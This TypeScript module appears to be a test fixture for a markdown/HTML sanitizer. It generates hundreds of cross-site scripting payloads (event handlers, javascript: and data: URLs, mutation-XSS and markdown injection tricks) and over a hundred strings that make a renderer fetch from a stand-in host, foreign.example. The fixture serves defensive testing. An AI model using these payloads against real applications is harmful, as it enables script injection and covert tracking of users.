// Strings that a model, a file name or an endpoint may say and that must stay words: no script, no request.
//
// A script that ran has set `cmtRan`; a request that left went to FOREIGN.

export const FOREIGN = "foreign.example";
const RUN = "window.cmtRan=1";
const AWAY = `https://${FOREIGN}/q`;

const EVENTS = [
  "onload", "onerror", "onfocus", "onmouseover", "onclick", "onanimationstart", "ontoggle", "onpointerenter",
  "onbeforeinput", "ontransitionend", "onscroll", "onwheel", "oncopy", "onpaste", "onkeydown", "onblur",
]; // prettier-ignore
const BEARERS = [
  "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=about:blank",
  "object data=x", "math", "a href=# tabindex=0 autofocus", "marquee",
]; // prettier-ignore

/** Every bearer with every event: 192 strings. */
const handlers = BEARERS.flatMap((bearer) => EVENTS.map((event) => `<${bearer} ${event}="${RUN}">x</${bearer.split(" ")[0]}>`));

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  "command:workbench.action.terminal.new",
  "vscode://cmt-lsp.cmt-lsp/run",
];
const links = SCHEMES.flatMap((scheme) => [
  `[press](${scheme})`,
  `[press](<${scheme}> "title")`,
  `<a href="${scheme}">press</a>`,
  `<form action="${scheme}"><button>press</button></form>`,
  `<iframe src="${scheme}"></iframe>`,
]);

const MUTATIONS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>x</b>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  "`<img src=x onerror=" + RUN + ">`",
  "```html\"><img src=x onerror=" + RUN + ">\n<b>\n```",
  "```\n</code></pre><img src=x onerror=" + RUN + ">\n```",
  `![" onerror="${RUN}](x)`,
  `![x](x" onerror="${RUN})`,
  `[x](x" onmouseover="${RUN})`,
  `[x]: javascript:${RUN}\n\n[press][x]`,
  `<javascript:${RUN}>`,
  `| <img src=x onerror=${RUN}> | a |\n| --- | --- |\n| <script>${RUN}</script> | b |`,
  `# <img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `<img src=x\u0000 onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
];

/** More than 300 strings that run a script where they are taken for markup. */
export const SCRIPTS: readonly string[] = [...handlers, ...links, ...MUTATIONS];

const SOURCES = [
  "img src", "img srcset", "image src", "video src", "video poster", "audio src", "source src", "track src", "embed src",
  "object data", "iframe src", "frame src", "script src", "input type=image src", "body background", "table background",
  "td background", "link rel=stylesheet href", "link rel=prefetch href", "link rel=preload as=image href",
  "link rel=dns-prefetch href", "link rel=preconnect href", "link rel=icon href", "link rel=modulepreload href",
  "bgsound src", "applet code", "portal src", "html manifest",
]; // prettier-ignore
const STYLES = [
  "background:url", "background-image:url", "list-style-image:url", "border-image:url", "cursor:url", "content:url",
  "mask-image:url", "filter:url", "shape-outside:url", "clip-path:url", "offset-path:url",
]; // prettier-ignore

const elements = SOURCES.map((source) => `<${source}="${AWAY}?element">x`);
const bare = SOURCES.map((source) => `<${source}=//${FOREIGN}/q?bare>x`);
const styled = STYLES.map((style) => `<p style="${style}('${AWAY}?style')">x</p>`);
const sheets = STYLES.map((style) => `<style>*{${style}('${AWAY}?sheet')}</style>`);
const OTHERS = [
  `![x](${AWAY}?markdown)`,
  `![x](//${FOREIGN}/q)`,
  `![x](\\\\${FOREIGN}\\q)`,
  `![x](http://${FOREIGN}/q)`,
  `![x](HTTPS://${FOREIGN.toUpperCase()}/q)`,
  `![x](<${AWAY}?a b>)`,
  `![x](${AWAY}?title "title")`,
  `![x][r]\n\n[r]: ${AWAY}?reference`,
  `[![x](${AWAY}?inside)](${AWAY})`,
  `- ![x](${AWAY}?list)`,
  `> ![x](${AWAY}?quote)`,
  `| ![x](${AWAY}?cell) |\n| --- |`,
  `# ![x](${AWAY}?heading)`,
  `![x](https://127.0.0.1@${FOREIGN}/q)`,
  `![x](ftp://${FOREIGN}/q)`,
  `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${AWAY}?svg'/></svg>)`,
  `<svg><image href="${AWAY}?svg"/></svg>`,
  `<svg><use href="${AWAY}?use#x"/></svg>`,
  `<svg><filter id=f><feImage href="${AWAY}?fe"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<svg><style>@import '${AWAY}?import';</style></svg>`,
  `<style>@import url(${AWAY}?import);</style>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}?font)}*{font-family:x}</style>`,
  `<a href="${AWAY}?ping" ping="${AWAY}?ping">x</a>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}?refresh">`,
  `<base href="${AWAY}/"><img src=x>`,
  `<form action="${AWAY}?form"><input name=q autofocus></form>`,
];

/** More than 100 strings that fetch something from elsewhere where they are taken for markup. */
export const FETCHES: readonly string[] = [...elements, ...bare, ...styled, ...sheets, ...OTHERS];
